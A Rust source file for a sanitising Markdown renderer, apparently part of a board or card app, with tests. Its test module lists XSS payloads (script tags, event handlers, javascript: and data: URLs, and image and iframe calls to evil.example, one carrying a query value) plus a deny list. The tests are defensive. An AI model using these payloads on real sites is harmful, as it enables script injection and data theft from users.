//! Markdown that agents and people wrote, as HTML that can do nothing (web.md, 3).
//!
//! pulldown-cmark with raw HTML turned into text, then ammonia with an explicit list. Two gates, because
//! either alone has had holes. No images: a picture of a foreign host carries out what the text holds.
use std::collections::{HashMap, HashSet};
use std::sync::LazyLock;

use ammonia::Builder;
use pulldown_cmark::{CowStr, Event, LinkType, Options, Parser, Tag, TagEnd, html};

use super::text::visible;

/// Longest text that is rendered, in bytes; a longer one is shown as it is.
pub(crate) const MAX_INPUT: usize = 256 * 1024;
/// Largest HTML, in bytes; a text that becomes larger is shown as it is.
const MAX_OUTPUT: usize = 2 * 1024 * 1024;
/// Deepest nesting of quotes, lists and items; a deeper text is shown as it is.
const MAX_NESTING: usize = 64;

static CLEANER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let tags = [
        "a",
        "blockquote",
        "br",
        "code",
        "del",
        "em",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "li",
        "ol",
        "p",
        "pre",
        "strong",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
    ];
    let mut builder = Builder::empty();
    builder
        .tags(HashSet::from(tags))
        .tag_attributes(HashMap::from([("a", HashSet::from(["href"])), ("ol", HashSet::from(["start"]))]))
        .generic_attributes(HashSet::new())
        .url_schemes(HashSet::from(["https", "http", "mailto"]))
        .url_relative(ammonia::UrlRelative::PassThrough)
        .link_rel(Some("noopener noreferrer nofollow"))
        .strip_comments(true);
    builder
});

/// The HTML of a Markdown text; none if it is beyond a cap, then the text is shown as it is.
pub(crate) fn render(markdown: &str) -> Option<String> {
    if markdown.len() > MAX_INPUT {
        return None;
    }
    let shown = visible(markdown);
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let mut events = Vec::new();
    let mut depth = 0_usize;
    let mut images: Vec<(String, String)> = Vec::new();
    let mut links: Vec<Option<String>> = Vec::new();
    for event in Parser::new_ext(&shown, options) {
        if let Event::Start(Tag::BlockQuote(_) | Tag::List(_) | Tag::Item) = &event {
            depth += 1;
        }
        if let Event::End(TagEnd::BlockQuote(_) | TagEnd::List(_) | TagEnd::Item) = &event {
            depth = depth.saturating_sub(1);
        }
        if depth > MAX_NESTING {
            return None;
        }
        // Inside an image only its text is kept, for the link that it becomes.
        if let Some((_, alt)) = images.last_mut() {
            if let Event::Text(text) | Event::Code(text) = &event {
                alt.push_str(text);
            } else if let Event::Start(Tag::Image { dest_url, .. }) = event {
                images.push((dest_url.into_string(), String::new()));
            } else if event == Event::End(TagEnd::Image)
                && let Some((url, alt)) = images.pop()
            {
                image_as_link(&url, &alt, links.is_empty(), &mut events);
            }
            continue;
        }
        if let Event::Html(raw) | Event::InlineHtml(raw) = event {
            events.push(Event::Text(raw));
        } else if let Event::Start(Tag::HtmlBlock) = event {
            events.push(Event::Start(Tag::Paragraph));
        } else if event == Event::End(TagEnd::HtmlBlock) {
            events.push(Event::End(TagEnd::Paragraph));
        } else if let Event::Start(Tag::Image { dest_url, .. }) = event {
            images.push((dest_url.into_string(), String::new()));
        } else if let Event::TaskListMarker(done) = event {
            events.push(Event::Text(CowStr::Borrowed(if done { "☑ " } else { "☐ " })));
        } else if let Event::Start(Tag::Link { dest_url, .. }) = event {
            let target = target(&dest_url);
            links.push(target.as_deref().and_then(host));
            events.push(link(target.unwrap_or_default()));
        } else if event == Event::End(TagEnd::Link) {
            if let Some(Some(host)) = links.pop() {
                events.push(Event::Text(CowStr::from(format!(" ({host} ↗)"))));
            }
            events.push(event);
        } else {
            events.push(event);
        }
    }
    let mut raw = String::with_capacity(shown.len() * 2);
    html::push_html(&mut raw, events.into_iter());
    if raw.len() > MAX_OUTPUT {
        return None;
    }
    let clean = CLEANER.clean(&raw).to_string();
    (clean.len() <= MAX_OUTPUT).then_some(clean)
}

fn link<'a>(target: String) -> Event<'a> {
    let none = CowStr::Borrowed("");
    Event::Start(Tag::Link {
        link_type: LinkType::Inline,
        dest_url: CowStr::from(target),
        title: none.clone(),
        id: none,
    })
}

/// „[Bild: alt, host]" as a link that nothing fetches by itself; inside a link only its words.
fn image_as_link(url: &str, alt: &str, may_link: bool, events: &mut Vec<Event<'_>>) {
    let words = match host(url) {
        Some(host) => format!("[Bild: {alt}, {host}]"),
        None => format!("[Bild: {alt}]"),
    };
    match target(url).filter(|_| may_link) {
        Some(target) => {
            events.push(link(target));
            events.push(Event::Text(CowStr::from(words)));
            events.push(Event::End(TagEnd::Link));
        }
        None => events.push(Event::Text(CowStr::from(words))),
    }
}

/// Where a link may lead: an allowed scheme, or one of our own pages.
fn target(url: &str) -> Option<String> {
    let url = url.trim();
    let lower = url.to_ascii_lowercase();
    let absolute = ["https://", "http://", "mailto:"].iter().any(|scheme| lower.starts_with(scheme));
    (absolute || crate::route::own_page(url).is_some()).then(|| url.to_owned())
}

/// The host of an absolute address.
fn host(url: &str) -> Option<String> {
    let (_, rest) = url.split_once("://")?;
    let authority = rest.split(['/', '?', '#', '\\']).next()?;
    let host = authority.rsplit('@').next()?;
    (!host.is_empty()).then(|| host.chars().take(100).collect())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn t21_nothing_that_runs_or_loads_comes_out() {
        let payloads = [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "[a](javascript:alert(1))",
            "[a](JaVaScRiPt:alert(1))",
            "[a](data:text/html;base64,PHNjcmlwdD4=)",
            "[a]( &#106;avascript:alert(1))",
            "<a href='javascript:alert(1)'>x</a>",
            "![x](https://evil.example/?q=geheim)",
            "[![x](javascript:alert(1))](javascript:alert(2))",
            "<svg onload=alert(1)>",
            "<iframe src=//evil.example></iframe>",
            "<style>*{background:url(//evil)}</style>",
            "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
            "<form action=/karten/x/aktion><input name=event value=started></form>",
            "`<b>`\n\n```html\n<script>x</script>\n```",
            "[a](//evil.example/x)",
            "<p id=card-x name=y style='position:fixed'>da</p>",
            "[x]: javascript:alert(1)\n\n[x]",
            "<https://ok.example/\"onmouseover=alert(1)>",
        ];
        for payload in payloads {
            let html = render(payload).unwrap();
            // What stands inside of tags; text that was escaped is text.
            let tags: String = html
                .split('<')
                .skip(1)
                .filter_map(|part| part.split('>').next())
                .collect::<Vec<_>>()
                .join(" ; ");
            let tags = tags.to_ascii_lowercase();
            for bad in [
                "script",
                "img",
                "svg",
                "iframe",
                "style",
                "math",
                "form",
                "input",
                "id=",
                "name=",
                "data:",
                "\"//",
                "onmouseover=alert(1)\"  ",
            ] {
                assert!(
                    !tags.contains(bad) || bad == "form" && tags.contains("noopener"),
                    "{bad}: {payload} -> {html}"
                );
            }
        }
    }

    #[test]
    fn raw_html_is_shown_as_text_and_links_show_their_host() {
        assert!(render("a <b>fett</b>").unwrap().contains("&lt;b&gt;fett&lt;/b&gt;"));
        let link = render("[hier](https://example.org/x)").unwrap();
        assert!(
            link.contains("example.org ↗") && link.contains("rel=\"noopener noreferrer nofollow\""),
            "{link}"
        );
        assert!(render("- [x] fertig").unwrap().contains("☑ fertig"));
        let image = render("![Bild](https://evil.example/a.png)").unwrap();
        assert!(image.contains("[Bild: Bild, evil.example]") && !image.contains("<img"), "{image}");
    }

    #[test]
    fn own_pages_can_be_linked_and_other_relative_addresses_cannot() {
        assert!(render("[x](/karten/abc)").unwrap().contains("href=\"/karten/abc\""));
        assert!(!render("[x](/api/board/cards)").unwrap().contains("href=\"/api"));
        assert!(!render("[x](../x)").unwrap().contains("href=\".."));
    }

    #[test]
    fn t23_what_is_beyond_a_cap_is_not_rendered() {
        assert!(render(&"a".repeat(MAX_INPUT)).is_some());
        assert!(render(&"a".repeat(MAX_INPUT + 1)).is_none());
        let quoted = |depth: usize| render(&format!("{}x", "> ".repeat(depth)));
        assert!(quoted(MAX_NESTING).is_some());
        assert!(quoted(MAX_NESTING + 1).is_none());
        // Two bytes of a row become some thirty.
        let table = format!("a|a\n-|-\n{}", "a\n".repeat(120_000));
        assert!(render(&table).is_none());
    }
}
